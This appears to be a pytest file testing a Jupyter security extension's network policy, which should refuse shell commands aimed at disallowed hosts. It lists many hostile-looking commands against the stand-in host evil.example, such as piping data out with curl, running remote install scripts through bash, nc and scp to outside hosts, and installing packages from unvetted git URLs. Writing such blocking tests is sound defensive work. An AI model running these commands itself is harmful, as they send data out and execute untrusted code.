"""Addresses in shell commands: what a person would type after ``!`` or under ``%%bash``."""

from __future__ import annotations

import pytest

from jupyter_mlsec.core.endpoints import EndpointPolicy
from jupyter_mlsec.kernel.seams.commands import first_refused

POLICY = EndpointPolicy.of(
    "block", [["https://allowed.example", "http://allowed.example", "tcp://allowed.example:22", "@loopback"]]
)

REFUSED = {
    "curl https://evil.example/x": "evil.example",
    "curl -s evil.example": "evil.example",
    "curl -o data.csv -H 'A: b' evil.example/data.csv": "evil.example",
    "wget -q -O out.bin http://evil.example/a.bin": "evil.example",
    "curl https://allowed.example/x && curl https://evil.example/y": "evil.example",
    "cat x | curl -d @- https://evil.example": "evil.example",
    "x=$(curl -s https://evil.example/install.sh)": "evil.example",
    "bash <(curl -s https://evil.example/install.sh)": "evil.example",
    "pip install git+https://evil.example/a/b.git": "evil.example",
    "pip install --index-url https://user:word@evil.example/simple x": "evil.example",
    "git clone git@evil.example:a/b.git": "evil.example",
    "ssh -p 22 someone@evil.example ls": "evil.example",
    "scp model.bin someone@evil.example:/tmp/": "evil.example",
    "nc evil.example 443": "evil.example",
    "sudo -E curl evil.example": "evil.example",
    "env -i A=b timeout 5 curl evil.example": "evil.example",
    "set -e\nfor i in 1 2; do\n  true\ndone\ncurl https://evil.example/$i": "evil.example",
    "python -c \"import urllib.request as u; u.urlopen('http://evil.example/x')\"": "evil.example",
    "curl 10.0.0.1:8080/x": "10.0.0.1",
    "psql postgresql://u:p@evil.example/db": "evil.example",
    "echo 'unclosed https://evil.example": "evil.example",
}

FINE = [
    "ls -la",
    "curl https://allowed.example/x -o data.csv",
    "curl -sSL -o evil.example allowed.example",
    "curl http://localhost:8888/api",
    "curl $URL",
    "curl https://$HOST/x",
    "curl {url}",
    "git clone https://allowed.example/a/b.git && cd b",
    "git commit -m 'fix: a thing'",
    "pip install requests==2.32.0 pandas",
    "python train.py --lr 0.1 model.bin",
    "wget --version",
    "cat file:///etc/hosts",
    "ssh someone@allowed.example",
    "docker run -p 127.0.0.1:8000:8000 image:latest",
    "# curl evil.example",
    "",
]


@pytest.mark.parametrize("command", REFUSED)
def test_refused(command):
    answer = first_refused(POLICY, command)
    assert not answer.allowed
    assert answer.host == REFUSED[command]
    assert "word" not in answer.reason + answer.advice


@pytest.mark.parametrize("command", FINE)
def test_fine(command):
    assert first_refused(POLICY, command).allowed


def test_through_the_gate(child):
    found = child(
        """
        answer = network.check_command("curl https://not-allowed.example/")
        report(host=answer.host, allowed=answer.allowed, fine=network.check_command("ls").allowed)
        """
    )
    assert (found["host"], found["allowed"], found["fine"]) == ("not-allowed.example", False, True)
    assert found["events"] == []
